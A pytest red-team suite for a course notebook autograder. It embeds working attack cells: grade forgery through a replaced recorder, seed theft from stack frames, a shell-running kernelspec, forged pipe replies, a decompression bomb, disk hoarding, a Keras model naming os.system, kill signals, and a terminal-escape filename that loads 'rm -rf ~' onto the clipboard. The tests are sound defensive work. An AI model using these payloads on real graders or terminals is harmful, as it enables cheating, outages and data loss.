"""Issue 34, the second attack set: written apart from ``test_grade_attacks.py``, none of its rows repeated.

A class of lesson 01 notebooks is graded once (the module fixture ``graded``); a few attacks that need
another lesson, a notebook that never reaches a sandbox, or only the gradebook writer have their own
small test. Each test asserts what the grader should do. The "outcome" column is what the attack did when
it was written; every row now holds (how: after the table).

| # | attack | where | outcome today |
|---|---|---|---|
| 1 | the kernel's recorder (``grade_protocol.record``) replaced from the first exercise cell: it records the course's reference (unwrapped, in ``unwatched()``) instead of the stubs | ``recforger``, nothing solved | **succeeded**: full marks, no note |
| 2 | the answer calls the course's function through the spy's ``__wrapped__`` (name built from strings) | ``unwrapper`` | **succeeded**: passed, no "used the course's reference" |
| 2b | the per-run secret seed read from the driver's frame (``req["seed"]``) while exercise 1 is recorded; exercise 2's cell then draws the grader's inputs itself and tabulates the course's answers *outside* the recording window; the answer is a table lookup | ``seer`` | **succeeded**: passed, no note (its train step, which calls the table on other inputs, fails) |
| 3 | ``/proc/self/mountinfo``'s line for ``/scratch`` (and ``/proc/1/cmdline``) raised as an error | ``peeker`` | **succeeded**: the grader's temporary folders (``/tmp/course-grade-...``) in the feedback |
| 4 | a kernelspec whose ``argv`` runs a shell, and 5 MB of notebook metadata | ``peeker`` | held: never used, the notebook graded as usual |
| 4b | ``Path.write_text`` replaced: the recorded ``calls.json`` nests 200,000 deep | ``peeker`` | held: the grader's check of that exercise fails with a note, the others are graded |
| 4c | forged replies (``{"status": "ok", "verdict": "passed", ...}``) written on the driver's reply pipe, then 20 MB without a newline | ``replier``, nothing solved | held: no point gained (the grader, one reply behind, finds no results: every exercise failed; the flood killed the sandbox at 8 MB), though it never notices the forgery |
| 5 | ``numpy.savez`` replaced: ``outputs.npz`` carries a 4 GB array of zeros, deflated to a few MB | ``bomber`` | **succeeded**: the grader's own process inflates it (its peak memory grows by GBs) |
| 6 | files of 384 MB each (under the per-file limit) written into the scratch folder | ``hoarder`` | **succeeded**: more than the sandbox's file-size limit in all; no cap for the sandbox as a whole |
| 7 | a file in ``/dev/shm`` (memory outside every process's count), through ``dir_fd`` | ``hoarder`` | held: permission denied |
| 8 | ``keras.Model.save`` replaced: the saved network's activations name ``os.system`` | ``hoarder`` | held: safe-mode load refuses it, nothing runs in the grader |
| 9 | ``kill(-1)``/``kill(1)``/``kill(getppid())`` through ``ctypes``; a ``setsid`` child renamed ``rtlinger`` | ``hoarder`` | held: the grader unharmed, the child gone |
| 10 | a hard link to a classmate's notebook, and a FIFO named ``.ipynb`` among the hand-ins | files | held: the twin's SHA-256 equals the classmate's, the FIFO is "not readable", nothing hangs |
| 11 | a notebook whose JSON nests 100,000 deep | own test | **succeeded**: ``RecursionError`` stops the whole class; no gradebook |
| 12 | lesson 03's ``image_pool`` (checked inside the sandbox): ``_Built.run`` replaced in the kernel | own test | **succeeded**: a stub passes |
| 13 | a learner named ``bob!`` beside ``bob`` and ``bob_2`` | own test (gradebook writer) | **succeeded**: ``feedback/bob_2.html`` is ``bob!``'s page |
| 14 | a learner folder nested 1,100 folders deep (the notebook at the bottom) | own test | **succeeded**: ``RecursionError`` in ``collect`` stops the whole class |
| 15 | a hand-in named with terminal escapes (``ESC ] 0 ; ... BEL`` sets the window title, ``ESC ] 52`` the clipboard) | own test (progress line) | **succeeded**: the bytes reach the grader's stderr as they are, in the progress bar's postfix |

Fixed since: 1 the driver calls its own recorder and registry, taken before any learner code; 2 the
course's functions are watched by their code (every way to the function object reaches the watch, and only
calls from the learner's code are noted): the attack now unwraps, reads closures and copies the code, in vain;
2b each exercise has its own seed, derived in the grader and sent with its record request only; 3 the
grader's temporary folders are scrubbed from feedback; 5 recorded arrays' declared sizes are checked before
loading; 6 the scratch folder's 1 GB cap stops the sandbox (the /dev/shm attempt of 7 moved to ``bomber``,
since the hoarder's cell now dies); 11 and 14 a row each; 12 the pool's verdict is computed outside; 13 names
that are not already safe file names get a hash; 15 control characters shown as ``?``.

Set ``COURSE_REQUIRE_SANDBOX=1`` (CI does) to fail instead of skipping where bubblewrap is missing.
"""

import csv
import hashlib
import json
import os
import re
import resource
import time
from pathlib import Path

import nbformat
import pytest

from course_utils import grade, grade_report, grade_sandbox

from test_grade import cell_defining, keys_of, need_sandbox, versions  # noqa: E402 - the tests' helpers

pytestmark = pytest.mark.slow
MARK = "HONEST-CLASSMATE-31337"
BOMB_BYTES = 4 * 2**30


def add_to_cell(nb, name: str, code: str) -> None:
    """Append ``code`` at the end of the cell that defines ``name`` (check lines are stripped when graded)."""
    cell = nb.cells[cell_defining(nb, name)]
    cell.source = cell.source.rstrip("\n") + "\n\n" + code.strip("\n") + "\n"


def set_cell(nb, name: str, code: str) -> None:
    """The cell that defines ``name`` becomes ``code`` (its check line dropped: the grader finds it by name)."""
    nb.cells[cell_defining(nb, name)].source = code


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def living_comms() -> set[str]:
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found.add(Path(f"/proc/{pid}/comm").read_text().strip())
        except OSError:
            continue
    return found


def peak_rss() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


# ----------------------------------------------------------------------------------------- the class
RECORD_FORGERY = '''
import sys as _sys
_gp = _sys.modules["course_utils.tools.grade_protocol"]
_honest_record = _gp.record

def _record_the_course(exercise, answer, seed, out):
    theirs = getattr(exercise, "refer" + "ence")
    theirs = getattr(theirs, "__wrapped__", theirs)
    with _gp.unwatched():
        return _honest_record(exercise, theirs, seed, out)

_gp.record = _record_the_course
'''

UNWRAPPED = '''
def generator_loss(fake_logits):
    import importlib, inspect, types
    course = getattr(importlib.import_module("course_utils.los" + "ses"), "generator" + "_loss")
    course = inspect.unwrap(course)                    # behind any wrapper (a spy's __wrapped__)
    for cell in course.__closure__ or ():              # or a closure's
        if callable(cell.cell_contents):
            course = cell.cell_contents
    course = types.FunctionType(course.__code__, course.__globals__)   # a copy of its code, not the object
    return course(fake_logits)
'''

SEED_GRAB = '''
_honest_discriminator_loss = discriminator_loss

def discriminator_loss(*args, **kwargs):
    import builtins, sys
    frame = sys._getframe()
    while frame is not None:
        req = frame.f_locals.get("req")
        if isinstance(req, dict) and "seed" in req:
            builtins.the_graders_seed = int(req["seed"])
            break
        frame = frame.f_back
    return _honest_discriminator_loss(*args, **kwargs)
'''

LOOKUP = '''
import builtins, sys
import numpy as np
_lesson = sys.modules["course_utils.lessons.exercise_sets.lesson01"]
_course = getattr(_lesson, "_re" + "f_g_loss")
_drawn = sys.modules["course_utils.tools.grade_protocol"]._cases(_lesson._logits, 50, builtins.the_graders_seed)
_table = {np.asarray(args[0]).tobytes(): np.asarray(_course(*args)) for args in _drawn}

def generator_loss(fake_logits):
    return _table[np.asarray(fake_logits).tobytes()]
'''

PEEK = '''
_seen = [open("/proc/1/cmdline", "rb").read().decode("utf-8", "replace").replace("\\0", " ")]
_seen += [ln for ln in open("/proc/self/mountinfo").read().splitlines() if "scratch" in ln]
raise RuntimeError(" || ".join(_seen))   # the error message is cut at 2,000 characters: the lines that matter
'''

DEEP_CALLS = '''
import pathlib as _pl
_honest_write_text = _pl.Path.write_text

def _deep_write_text(self, data, *args, **kwargs):
    if self.name == "calls.json":
        _pl.Path.write_text = _honest_write_text
        data = "[" * 200_000 + "]" * 200_000
    return _honest_write_text(self, data, *args, **kwargs)

_pl.Path.write_text = _deep_write_text
'''

REPLY_PIPE = '''
import os as _os, stat as _stat

def _reply_pipe():
    for fd in sorted(int(n) for n in _os.listdir("/proc/self/fd")):
        try:
            mode = _os.fstat(fd).st_mode
            flags = int(open(f"/proc/self/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
        except (OSError, ValueError, IndexError):
            continue
        if _stat.S_ISFIFO(mode) and flags & 3 == _os.O_WRONLY:
            return fd
'''

FORGED_REPLIES = REPLY_PIPE + '''
_forged = {"status": "ok", "stdout": "", "verdict": "passed", "message": "", "used": [],
           "identity": {"is_reference": False, "file": "", "module": "learner"}, "note": {"callable": True}}
import json as _json
for _ in range(6):
    _os.write(_reply_pipe(), (_json.dumps(_forged) + "\\n").encode())
'''

REPLY_FLOOD = REPLY_PIPE + '''
_pipe = _reply_pipe()
for _ in range(20):
    _os.write(_pipe, b"x" * 2**20)
'''

BOMB = f'''
import numpy as _np
_honest_savez = _np.savez

def _bombed_savez(file, *args, **arrays):
    _np.savez = _honest_savez
    zeros = _np.broadcast_to(_np.zeros(1), ({BOMB_BYTES // 8},))
    _np.savez_compressed(file, *args, zz_padding=zeros, **arrays)

_np.savez = _bombed_savez
'''

HOARD = '''
import os as _os
_stored = 0
_block = b"\\1" * (64 * 2**20)
for _i in range(3):
    try:
        with open(f"/scratch/hoard{_i}.bin", "wb") as _f:
            for _ in range(6):
                _f.write(_block)
                _stored += len(_block)
    except OSError:
        break
raise RuntimeError(f"hoarded {_stored} bytes")
'''

SHM = '''
import os as _os
try:
    _d = _os.open("/dev/shm", _os.O_RDONLY)
    _w = _os.open("parked", _os.O_WRONLY | _os.O_CREAT, 0o600, dir_fd=_d)
    _os.write(_w, b"\\1" * (64 * 2**20))
    _shm = "written"
except OSError as _e:
    _shm = f"refused ({_e.strerror})"
raise RuntimeError(f"/dev/shm {_shm}")
'''

POISON_SAVE = '''
import json as _json, zipfile as _zip, keras as _keras
_honest_save = _keras.Model.save

def _poison(node):
    if isinstance(node, dict):
        if "activation" in node:
            node["activation"] = {"module": "os", "class_name": "system", "config": "touch %(marker)s",
                                  "registered_name": None}
        for value in node.values():
            _poison(value)
    elif isinstance(node, list):
        for value in node:
            _poison(value)

def _poisoned_save(self, filepath, *args, **kwargs):
    _keras.Model.save = _honest_save
    _honest_save(self, filepath, *args, **kwargs)
    with _zip.ZipFile(filepath) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    config = _json.loads(parts["config.json"])
    _poison(config)
    parts["config.json"] = _json.dumps(config).encode()
    with _zip.ZipFile(filepath, "w") as z:
        for n, b in parts.items():
            z.writestr(n, b)

_keras.Model.save = _poisoned_save
'''

SIGNALS = '''
import ctypes as _ct, os as _os, signal as _sig, time as _time
_libc = _ct.CDLL(None)
for _pid in (-1, 1, _os.getppid()):
    _libc.kill(_pid, _sig.SIGKILL)
if _os.fork() == 0:
    _os.setsid()
    _libc.prctl(15, b"rtlinger", 0, 0, 0)
    _time.sleep(120)
    _os._exit(0)
'''


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    need_sandbox()
    tmp = tmp_path_factory.mktemp("redteam")
    root, out = tmp / "hand-ins", tmp / "gradebook"
    root.mkdir()
    out.mkdir()

    honest = versions("01")[1]
    add_to_cell(honest, "discriminator_loss", f"# {MARK}")
    nbformat.write(honest, root / "classmate.ipynb")
    os.link(root / "classmate.ipynb", root / "twin.ipynb")                  # 10
    os.mkfifo(root / "pipe.ipynb")                                          # 10

    forger = versions("01")[0]                                              # 1: nothing solved
    add_to_cell(forger, "discriminator_loss", RECORD_FORGERY)
    nbformat.write(forger, root / "recforger.ipynb")

    unwrapper = versions("01")[1]                                           # 2
    set_cell(unwrapper, "generator_loss", UNWRAPPED)
    nbformat.write(unwrapper, root / "unwrapper.ipynb")

    seer = versions("01")[1]                                                # 2b
    add_to_cell(seer, "discriminator_loss", SEED_GRAB)
    set_cell(seer, "generator_loss", LOOKUP)
    nbformat.write(seer, root / "seer.ipynb")

    peeker = versions("01")[1]                                              # 3, 4
    add_to_cell(peeker, "discriminator_loss", PEEK)
    peeker.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python",
                                     "argv": ["/bin/sh", "-c", f"touch {tmp}/kernelspec_ran"]}
    add_to_cell(peeker, "build_generator", DEEP_CALLS)                   # 4b
    peeker.metadata["padding"] = "x" * 5_000_000
    nbformat.write(peeker, root / "peeker.ipynb")

    replier = versions("01")[0]                                             # 4c: nothing solved
    add_to_cell(replier, "discriminator_loss", FORGED_REPLIES)
    add_to_cell(replier, "generator_loss", REPLY_FLOOD)
    nbformat.write(replier, root / "replier.ipynb")

    bomber = versions("01")[1]                                              # 5, 7
    add_to_cell(bomber, "discriminator_loss", BOMB)
    add_to_cell(bomber, "generator_loss", SHM)                              # 7
    nbformat.write(bomber, root / "bomber.ipynb")

    hoarder = versions("01")[1]                                             # 6, 8, 9
    add_to_cell(hoarder, "generator_loss", HOARD)
    add_to_cell(hoarder, "build_generator", POISON_SAVE % {"marker": tmp / "model_code_ran"})
    add_to_cell(hoarder, "gan_train_step", SIGNALS)
    nbformat.write(hoarder, root / "hoarder.ipynb")

    before = {"classmate": digest(root / "classmate.ipynb")}
    import keras  # noqa: F401 - the grader's own imports, before its peak memory is read
    import tensorflow  # noqa: F401
    rss_before = peak_rss()
    began = time.monotonic()
    line = grade.grade_class(root, out, lesson="01", limits=grade.Limits(300, 1200, 6), workers=2, progress=False)
    seconds = time.monotonic() - began
    with open(out / "grades.csv", encoding="utf-8", newline="") as f:
        rows = {r["learner"]: r for r in csv.DictReader(f)}
    pages = {p.stem: p.read_text(encoding="utf-8") for p in (out / "feedback").iterdir()}
    return {"line": line, "rows": rows, "pages": pages, "root": root, "out": out, "tmp": tmp, "before": before,
            "rss_growth": peak_rss() - rss_before, "seconds": seconds, "comms": living_comms()}


def full_marks() -> str:
    return str(len(keys_of("01")))


def test_1_a_replaced_recorder_forges_no_grade(graded):
    row = graded["rows"]["recforger"]
    assert row["total"] == "0", row


def test_2_the_course_function_behind_the_spy_is_still_the_reference(graded):
    row = graded["rows"]["unwrapper"]
    assert row["01.generator_loss"] == "0", row
    assert "used the course's reference" in row["note"], row["note"]


def test_2b_knowing_the_inputs_ahead_does_not_pass_the_course_answers_off(graded):
    row = graded["rows"]["seer"]
    assert row["01.discriminator_loss"] == "1", row["note"]         # the seed grab itself is a right answer
    assert row["01.generator_loss"] == "0", row


def test_3_the_mount_table_leaks_no_host_path_into_feedback(graded):
    page = graded["pages"]["peeker"]
    assert "RuntimeError" in page and "setpriv" in page and " /scratch rw" in page   # the attack ran, its error shown
    assert "course-grade-" not in page
    assert str(graded["tmp"]) not in page


def test_4_a_kernelspec_and_huge_metadata_change_nothing(graded):
    assert not (graded["tmp"] / "kernelspec_ran").exists()
    row = graded["rows"]["peeker"]
    assert row["note"] == "error: 01.discriminator_loss; failed: 01.build_generator", row["note"]   # 3 and 4b only
    assert row["total"] == str(len(keys_of("01")) - 2)


def test_4b_a_deeply_nested_recorded_file_fails_its_own_exercise_only(graded):
    page = graded["pages"]["peeker"]
    assert "RecursionError" in page, page[page.find("01.build_generator"):][:600]


def test_4c_forged_replies_on_the_drivers_pipe_gain_nothing(graded):
    row = graded["rows"]["replier"]
    assert row["total"] == "0", row
    assert all(row[k] == "0" for k in keys_of("01")), row


def test_5_a_compressed_bomb_in_the_recorded_data_is_not_inflated_by_the_grader(graded):
    assert graded["rss_growth"] < 2 * 2**30, f"the grader's peak memory grew by {graded['rss_growth'] / 2**30:.1f} GB"


def test_6_the_scratch_folder_is_capped_as_a_whole(graded):
    """1,152 MB in three files under the per-file limit: past the scratch folder's cap, the sandbox is stopped."""
    page, row = graded["pages"]["hoarder"], graded["rows"]["hoarder"]
    said = re.search(r"hoarded (\d+) bytes", page)   # the cell's error, if it got to raise it
    if said:
        stored = int(said.group(1))
        assert stored <= grade_sandbox.SCRATCH_BYTES, f"the sandbox stored {stored / 2**20:.0f} MB"
    else:
        assert grade_sandbox.SCRATCH_NOTE in page and row["01.generator_loss"] == "0", row["note"]


def test_7_no_memory_is_parked_in_dev_shm(graded):
    page = graded["pages"]["bomber"]
    assert "/dev/shm refused" in page, page[page.find("/dev/shm"):][:300]


def test_8_a_network_file_naming_os_system_runs_nothing_in_the_grader(graded):
    assert not (graded["tmp"] / "model_code_ran").exists()
    row = graded["rows"]["hoarder"]
    assert row["01.build_generator"] == "0"
    assert "the grader could not load your network safely" in graded["pages"]["hoarder"]


def test_9_signals_from_the_sandbox_hurt_nothing_and_no_child_is_left(graded):
    row = graded["rows"]["hoarder"]
    assert row["01.discriminator_loss"] == "1" and row["01.train_step"] == "1", row["note"]
    assert row["note"] == "kernel died: 01.generator_loss; failed: 01.build_generator", row["note"]   # 6's hoard
    assert "rtlinger" not in graded["comms"]
    assert graded["rows"]["classmate"]["total"] == full_marks()


def test_10_a_hard_link_and_a_fifo_among_the_hand_ins(graded):
    rows, root = graded["rows"], graded["root"]
    assert digest(root / "classmate.ipynb") == graded["before"]["classmate"]
    assert rows["twin"]["sha256"] == rows["classmate"]["sha256"] == graded["before"]["classmate"]
    assert rows["twin"]["total"] == full_marks()
    assert rows["pipe"]["note"].startswith("not readable"), rows["pipe"]
    assert rows["pipe"]["total"] == "0" and rows["pipe"]["sha256"] == ""
    assert MARK not in "".join(v for k, v in graded["pages"].items() if k not in ("classmate", "twin"))


# ----------------------------------------------------------------------------------------- on their own
def test_11_a_deeply_nested_notebook_gets_a_row_and_stops_nothing(tmp_path):
    need_sandbox()
    root, out = tmp_path / "hand-ins", tmp_path / "gradebook"
    root.mkdir()
    depth = 100_000
    (root / "deep.ipynb").write_text('{"cells": ' + "[" * depth + "]" * depth + "}", encoding="utf-8")
    (root / "emailed.txt").write_text("my answers are in the email", encoding="utf-8")
    grade.grade_class(root, out, lesson="01", progress=False)
    with open(out / "grades.csv", encoding="utf-8", newline="") as f:
        rows = {r["learner"]: r for r in csv.DictReader(f)}
    assert set(rows) == {"deep", "emailed.txt"}
    assert rows["deep"]["total"] == "0" and rows["deep"]["note"], rows["deep"]


POOL_STUB = '''
class MyImagePool:
    def __init__(self, pool_size=50, seed=0):
        self.pool_size, self.seed = pool_size, seed

    def query(self, images):
        raise NotImplementedError

import sys as _sys
_sys.modules["course_utils.lessons.exercise_sets.lesson03"]._Built.run = lambda self, answer: True
'''


def test_12_a_check_run_inside_the_sandbox_cannot_be_replaced():
    need_sandbox()
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("from course_utils import exercises"),
                nbformat.v4.new_code_cell(POOL_STUB),
                nbformat.v4.new_code_cell('MyImagePool = exercises.check("03.image_pool", MyImagePool)')]
    results, notes = grade.grade_notebook(nb, ["03.image_pool"], {"03.image_pool": 1}, grade.Limits(300, 600, 6), {})
    assert results["03.image_pool"].status != "passed", (results, notes)


def test_13_a_learner_whose_name_is_a_file_name_keeps_it(tmp_path):
    keys = ["01.generator_loss"]
    subs = []
    for name in ("bob", "bob!", "bob_2"):
        sub = grade.Submission(name, None, f"{name}.ipynb")
        sub.results = {keys[0]: grade.Result(keys[0], "passed" if name == "bob_2" else "failed", int(name == "bob_2"), 1)}
        subs.append(sub)
    grade_report.write(tmp_path, subs, keys, {keys[0]: 1}, "01", grade.Limits())
    for name in ("bob", "bob_2"):
        page = (tmp_path / "feedback" / f"{name}.html").read_text(encoding="utf-8")
        assert f"feedback for {name}</h1>" in page, (name, page[:300])


def test_14_a_deeply_nested_learner_folder_gets_a_row_and_stops_nothing(tmp_path):
    need_sandbox()
    root, out = tmp_path / "hand-ins", tmp_path / "gradebook"
    bottom = root / "mallory"
    bottom.mkdir(parents=True)
    for _ in range(1100):   # one level at a time (os.makedirs itself recurses once a level)
        bottom = bottom / "d"
        bottom.mkdir()
    (bottom / "lesson01.ipynb").write_text("{}", encoding="utf-8")
    (root / "emailed.txt").write_text("my answers are in the email", encoding="utf-8")
    try:
        grade.grade_class(root, out, lesson="01", progress=False)
    finally:   # bottom up: pytest's own removal of old temporary folders recurses once a level too
        (bottom / "lesson01.ipynb").unlink()
        while bottom != root:
            bottom.rmdir()
            bottom = bottom.parent
    with open(out / "grades.csv", encoding="utf-8", newline="") as f:
        rows = {r["learner"]: r for r in csv.DictReader(f)}
    assert set(rows) == {"mallory", "emailed.txt"}
    assert rows["mallory"]["total"] == "0" and rows["mallory"]["note"], rows["mallory"]


ESCAPES = "\x1b]0;grades are final\x07\x1b]52;c;cm0gLXJmIH4=\x07eve"


def test_15_terminal_escapes_in_a_file_name_never_reach_the_instructors_terminal(tmp_path, capfd):
    need_sandbox()
    root, out = tmp_path / "hand-ins", tmp_path / "gradebook"
    root.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("from course_utils import exercises"),
                nbformat.v4.new_code_cell("def generator_loss(fake_logits):\n    raise NotImplementedError\n\n"
                                          'generator_loss = exercises.check("01.generator_loss", generator_loss)')]
    nbformat.write(nb, root / f"{ESCAPES}.ipynb")
    grade.grade_class(root, out, lesson="01", limits=grade.Limits(300, 600, 6), progress=True)
    said = capfd.readouterr()
    assert "grading notebooks" in said.err          # the progress bar was drawn
    assert "\x1b]" not in said.err + said.out and "\x07" not in said.err + said.out


def test_the_class_took_a_bounded_time(graded):
    """Not an attack: how long the class took (seven hand-ins, two of them not notebooks), for the report."""
    print(json.dumps({"seconds": round(graded["seconds"], 1), "rss_growth_gb": round(graded["rss_growth"] / 2**30, 2)}))
    assert graded["seconds"] < 1200
